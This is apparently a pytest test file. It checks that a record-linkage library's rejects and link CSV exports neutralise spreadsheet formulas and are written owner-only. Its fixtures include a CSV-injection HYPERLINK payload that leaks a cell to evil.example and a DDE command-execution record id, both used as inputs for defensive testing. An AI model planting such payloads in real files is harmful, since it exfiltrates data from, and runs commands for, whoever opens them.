"""What a load and an export write for people to open is safe to open and private, on every
store (issue 12, defects 2 and 3; ADR 0027):

* a value a spreadsheet would run as a formula reaches the rejects file and the links export
  with a ``'`` in front (OWASP's CSV-injection rule);
* the rejects file, the export and the folders made for them are owner-only (0600 / 0700),
  whatever the process umask.
"""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from identity_graph import api
from identity_graph.ingest.rejects import read_rejects
from identity_graph.store.contract import Store

#: the review's example: typed as an email, it leaks the next cell when clicked in Excel
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
#: a record id crafted to run a command in a spreadsheet that allows DDE
DDE_ID = "-2+3+cmd|' /C calc'!A0"

MAPPING = """\
source = "hr"
id = "REF"
[fields]
full_name = "NAME"
dob = "DOB"
email = "EMAIL"
phone = "PHONE"
"""


@pytest.fixture(params=[0o022, 0o000], ids=["umask022", "umask000"])
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    """The process umask for the test (restored after)."""
    old = os.umask(request.param)
    try:
        yield int(request.param)
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _export(tmp_path: Path) -> tuple[Path, Path]:
    data = tmp_path / "hr.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["REF", "NAME", "DOB", "EMAIL", "PHONE"])
        w.writerow(["R1", "Ann Lee", "1980-02-03", "ann.lee@example.org", "07700 900123"])
        w.writerow(["R2", "Bob Ray", "1975-06-07", FORMULA, ""])
        w.writerow([DDE_ID, "Cy Dee", "1990-01-01", "", ""])
    mapping = tmp_path / "hr.toml"
    mapping.write_text(MAPPING, encoding="utf-8")
    return data, mapping


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_a_formula_typed_as_an_email_reaches_the_rejects_file_neutralised(
    store: Store, tmp_path: Path, umask: int
) -> None:
    data, mapping = _export(tmp_path)
    rejects = tmp_path / "made" / "for" / "rejects.csv"
    report = api.load(store, data, mapping, rejects_path=rejects)
    assert report.values_dropped >= 1
    written = [c for row in cells(rejects) for c in row]
    assert "'" + FORMULA in written
    assert FORMULA not in written
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # read back by the library: the value as the export held it
    assert FORMULA in [r.value for r in read_rejects(rejects)]


def test_a_formula_record_id_reaches_the_links_export_neutralised(store: Store, tmp_path: Path, umask: int) -> None:
    data, mapping = _export(tmp_path)
    api.load(store, data, mapping, rejects_path=tmp_path / "rejects.csv")
    api.resolve(store)
    out = tmp_path / "exports" / "links.csv"
    assert api.export_links(store, out) == 3
    ids = [row[1] for row in cells(out)[1:]]
    assert "'" + DDE_ID in ids and DDE_ID not in ids


def test_rejects_and_exports_are_owner_only_whatever_the_umask(store: Store, tmp_path: Path, umask: int) -> None:
    data, mapping = _export(tmp_path)
    rejects = tmp_path / "rejects" / "hr.csv"
    api.load(store, data, mapping, rejects_path=rejects)
    api.resolve(store)
    out = tmp_path / "exports" / "today" / "links.csv"
    api.export_links(store, out)
    assert (mode(rejects), mode(rejects.parent)) == (0o600, 0o700)
    assert (mode(out), mode(out.parent), mode(out.parent.parent)) == (0o600, 0o700, 0o700)


def test_an_existing_export_file_is_made_owner_only_when_written_again(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "links.csv"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o644)
    api.export_links(store, out)
    assert mode(out) == 0o600
